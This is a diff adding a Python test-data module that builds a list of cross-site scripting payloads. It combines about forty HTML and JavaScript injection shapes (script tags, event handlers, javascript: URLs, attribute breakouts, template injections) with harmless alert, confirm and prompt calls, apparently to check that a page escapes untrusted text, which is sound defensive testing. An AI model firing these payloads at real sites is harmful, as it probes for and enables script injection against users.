@@ -1,0 +1,50 @@
+"""Texts that would do harm where a page does not escape them; each would open a dialog if it ran."""
+
+from __future__ import annotations
+
+_CALLS = ("alert(1)", "confirm`1`", "prompt(document.domain)")
+_SHAPES = (
+    "<script>{call}</script>",
+    "</script><script>{call}</script>",
+    "<ScRiPt >{call}</sCrIpT>",
+    "<script src=data:text/javascript,{call}></script>",
+    "<img src=x onerror={call}>",
+    "<img src=x onerror='{call}'//",
+    "<svg onload={call}>",
+    "<svg><script>{call}</script></svg>",
+    "<svg/onload={call}//",
+    "<svg><animate onbegin={call} attributeName=x dur=1s>",
+    "<body onload={call}>",
+    "<iframe srcdoc='<script>{call}</script>'></iframe>",
+    "<iframe src=javascript:{call}>",
+    "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
+    "<input autofocus onfocus={call}>",
+    "<details open ontoggle={call}>",
+    "<select autofocus onfocus={call}>",
+    "<video><source onerror={call}>",
+    "<audio src=x onerror={call}>",
+    "<object data=javascript:{call}>",
+    "<embed src=javascript:{call}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
+    "<base href=javascript:/{call}//>",
+    "<link rel=stylesheet href=javascript:{call}>",
+    "<style>@import 'javascript:{call}';</style>",
+    "<form action=javascript:{call}><button autofocus>x",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
+    "<template><script>{call}</script></template>",
+    "<xss style=animation-name:x onanimationstart={call}>",
+    '" onmouseover={call} x="',
+    "' onfocus={call} autofocus x='",
+    '"><script>{call}</script>',
+    "'><img src=x onerror={call}>",
+    "--><script>{call}</script><!--",
+    "]]><script>{call}</script>",
+    "</title><script>{call}</script>",
+    "</svg><script>{call}</script>",
+    "</option></select><script>{call}</script>",
+    "{{{{ {call} }}}}{{% print {call} %}}${{{call}}}",
+    "\u003cscript\u003e{call}\u003c/script\u003e&lt;script&gt;",
+    "javascript:{call}//\\u003cscript>",
+)
+
+PAYLOADS = tuple(shape.format(call=call) for shape in _SHAPES for call in _CALLS)
